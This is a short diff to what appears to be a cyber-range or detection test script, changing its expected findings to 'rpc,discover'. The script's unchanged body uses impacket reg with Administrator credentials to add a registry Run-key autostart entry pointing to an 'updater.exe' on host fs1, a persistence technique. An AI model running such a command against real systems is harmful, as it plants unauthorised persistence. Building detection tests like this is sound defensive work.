@@ -5,7 +5,7 @@
 # to: fs1
 # account: Administrator
 # outcome: attempt
-# must: finding rpc
+# must: finding rpc,discover
 . "$RANGE_HERE/item.sh"
 impacket reg "CORP/Administrator:$ADMIN_PASSWORD@$fs1" add -keyName 'HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run' -v updater -vt REG_SZ -vd 'C:\Windows\updater.exe'
 true
